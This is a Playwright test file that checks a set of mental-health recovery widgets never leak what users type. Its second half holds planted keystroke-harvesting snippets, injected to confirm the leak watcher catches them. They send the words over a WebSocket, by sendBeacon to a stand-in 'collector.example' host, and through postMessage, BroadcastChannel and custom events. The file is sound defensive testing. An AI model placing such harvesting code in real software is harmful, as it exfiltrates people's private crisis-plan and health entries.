// Nothing a person writes leaves their browser except by their own action: watched at the
// browser's network layer, at the servers and inside the page (tests/e2e/leak-watch.js), on
// the usual host page (no Content-Security-Policy) as well as the strict ones, and on after
// the person leaves the page. The second half plants each leak a review once slipped past the
// old test into widgets.js, and checks the watch reports it.
import { test, expect } from '@playwright/test';
import { InventoryPage } from './inventory-page.js';
import { GoalsPage } from './goals-page.js';
import { PlannerPage } from './planner-page.js';
import { JourneyPage } from './journey-page.js';
import { watchForLeaks } from './leak-watch.js';

const TOOLBOX = 'My wellness toolbox: things that help me feel better';

/** Words only this test types, so any of them found outside the widgets was carried there. */
const TYPED = {
  strength: 'Zephyrine keeps a tidy flat',
  wish: 'Quillon wants a herb garden',
  goal: 'Marrowby walks every morning',
  why: 'Brindleford feels calmer',
  step: 'Oakhurst shoes by the door',
  toolbox: 'Thistledown music at night',
  person: 'Wrenfield my cousin',
  helped: 'Larkspur tea with my aunt',
};
const WORDS = Object.values(TYPED);

/** Uses every widget the way a person would, from first words to keeping a copy. */
async function useEveryWidget(page, watch, path) {
  const inventory = new InventoryPage(page);
  const goals = new GoalsPage(page);
  const planner = new PlannerPage(page);
  const journey = new JourneyPage(page, { namespace: path === '/kiosk.html' ? 'kiosk' : 'harbourside' });
  await inventory.open(watch.url(path));
  await goals.ready();
  await planner.ready();
  await journey.ready();
  await watch.ready();

  await inventory.addAnswer('haveNow', TYPED.strength);
  await inventory.question('haveNow').getByLabel('Where is this strength?').selectOption('individual');
  await inventory.addAnswer('want', TYPED.wish);
  if (path === '/languages.html') {
    // Changing language asks the server for nothing: every offered language came with the
    // page. A request now would be a finding ("asked after the widgets were ready").
    for (const [menu, tag] of [['Language', 'ar'], ['اللغة', 'vi'], ['Ngôn ngữ', 'en']]) {
      await inventory.widget.getByRole('combobox', { name: menu }).selectOption(tag);
      await expect(goals.widget.locator('.rw-root')).toHaveAttribute('lang', tag);
    }
  }
  await inventory.openPart('My qualities');
  await inventory.quality('Kindness').check();
  await inventory.star('Kindness').click();
  await goals.startGoal(TYPED.goal, { why: TYPED.why });
  await goals.addStep(TYPED.step);
  await goals.widget.getByRole('button', { name: /^I did it/ }).click();
  await goals.widget.getByRole('button', { name: 'Summary' }).click();
  await planner.openPart('Staying well');
  await planner.add(TOOLBOX, TYPED.toolbox);
  await planner.openPart('Staying safe in a crisis');
  await planner.addContact('People I can ask for help', TYPED.person, '0400 123 456');
  await planner.widget.getByRole('button', { name: 'My plan on one page' }).click();
  await journey.rate('Money', 4);
  await journey.helped('Money', TYPED.helped);
  await journey.openPart('Look back');
  await inventory.openPart('My summary');
  if (path === '/kiosk.html') {
    const bar = goals.widget.locator('.rw-kiosk-bar');
    await bar.getByRole('button', { name: "I'm finished" }).click();
    await bar.getByRole('button', { name: 'Take my answers home on my phone' }).click();
    await expect(bar.getByRole('img', { name: /A code to scan/ })).toBeVisible();
    await bar.getByRole('button', { name: 'Clear everything now' }).click();
    await expect(inventory.widget.getByText('0 of 7 life areas have something written')).toBeVisible();
  } else {
    const panel = inventory.widget.getByRole('region', { name: 'Keep a copy' });
    await panel.getByRole('button', { name: 'Show a code for my phone' }).click();
    await expect(panel.getByRole('img', { name: /A code to scan/ })).toBeVisible();
    const copy = await inventory.exportCopy();
    expect(copy.text).toContain(TYPED.goal);
  }
  await watch.leave();
}

for (const path of ['/', '/csp.html', '/kiosk.html', '/languages.html']) {
  test(`${path}: nothing the person writes leaves the page, by any way, even as they leave`, async ({}, testInfo) => {
    const watch = await watchForLeaks(testInfo);
    try {
      await useEveryWidget(watch.page, watch, path);
      expect(await watch.findings(WORDS)).toEqual([]);
      // Every layer was watching: each saw the page load the bundle.
      const seen = watch.seen();
      expect(seen.netlog).toContain(watch.url('/widgets/recovery-widgets_bg.wasm'));
      expect(seen.devtools).toContain(watch.url('/widgets/recovery-widgets_bg.wasm'));
      expect(seen.server).toContain('/widgets/recovery-widgets_bg.wasm');
      // The only events with a detail are the four "ready" events, naming the widget.
      expect(watch.eventsWithDetail()).toEqual([
        { type: 'recovery-widget-ready', detail: '{"widget":"strengths-inventory"}' },
        { type: 'recovery-widget-ready', detail: '{"widget":"goal-builder"}' },
        { type: 'recovery-widget-ready', detail: '{"widget":"warning-sign-planner"}' },
        { type: 'recovery-widget-ready', detail: '{"widget":"recovery-journey"}' },
      ]);
      // The loader's own messages (a task between widget builds) carry nothing.
      expect(watch.messages().filter((m) => m !== 'MessagePort.postMessage: null')).toEqual([]);
      testInfo.annotations.push({ type: "Chromium's own requests (not the page's) went to", description: watch.chromiumsOwn().join(', ') || 'nowhere' });
    } finally {
      await watch.stop();
    }
  });
}

// Each of these is appended to widgets.js as the page loads it, as a careless or hostile change
// to the loader would be. `everything` gathers what the person types.
const GATHER = `
  const everything = [];
  document.addEventListener('input', (event) => {
    const box = event.composedPath()[0];
    if (typeof box.value === 'string') everything.push(box.value);
  }, true);`;

const PLANTED = {
  'a WebSocket to another origin, sent each keystroke': {
    code: (elsewhere) => `${GATHER}
      let socket = null;
      document.addEventListener('input', () => {
        socket ??= new WebSocket('${elsewhere.replace('http:', 'ws:')}/keys');
        const words = everything.at(-1);
        if (socket.readyState === 1) socket.send(words);
        else socket.addEventListener('open', () => socket.send(words));
      }, true);`,
    caught: [
      /^netlog: WEBSOCKET to another origin: ws:\/\/127\.0\.0\.1:\d+\/keys$/,
      /^network: a WebSocket opened to ws:\/\/127\.0\.0\.1:\d+\/keys$/,
      /^elsewhere: reached another server: UPGRADE \/keys$/,
    ],
  },
  'a beacon home on pagehide, with everything typed': {
    code: () => `${GATHER}
      addEventListener('pagehide', () => navigator.sendBeacon('/collect', JSON.stringify(everything)));`,
    caught: [/^netlog: POST after the widgets were ready: http:\/\/127\.0\.0\.1:\d+\/collect$/, /^server: asked after the widgets were ready: POST \/collect$/],
  },
  'a beacon on pagehide to a collector on the internet, which no server here can see': {
    code: () => `${GATHER}
      addEventListener('pagehide', () => navigator.sendBeacon('https://collector.example/c', JSON.stringify(everything)));`,
    caught: [/^netlog: POST to another origin: https:\/\/collector\.example\/c$/],
  },
  'postMessage of everything typed': {
    code: () => `${GATHER}
      document.addEventListener('input', () => window.postMessage({ everything }, '*'), true);`,
    caught: [/^page: window\.postMessage carried typed words: /],
  },
  'a BroadcastChannel to other tabs': {
    code: () => `${GATHER}
      const channel = new BroadcastChannel('answers');
      document.addEventListener('input', () => channel.postMessage(everything.join(' ')), true);`,
    caught: [/^page: BroadcastChannel\.postMessage carried typed words: /],
  },
  'an event on the document carrying the words': {
    code: () => `${GATHER}
      document.addEventListener('input', () => document.dispatchEvent(new CustomEvent('answers', { detail: everything })), true);`,
    caught: [/^page: event answers carried typed words: /],
  },
};

for (const [leak, { code, caught }] of Object.entries(PLANTED)) {
  test(`the watch catches a planted leak: ${leak}`, async ({}, testInfo) => {
    const watch = await watchForLeaks(testInfo);
    const { page } = watch;
    try {
      await page.route('**/widgets/widgets.js', async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()}\n${code(watch.elsewhere)}\n` });
      });
      await useEveryWidget(page, watch, '/');
      const found = await watch.findings(WORDS);
      for (const pattern of caught) expect(found, `the watch reports ${pattern}`).toContainEqual(expect.stringMatching(pattern));
    } finally {
      await watch.stop();
    }
  });
}
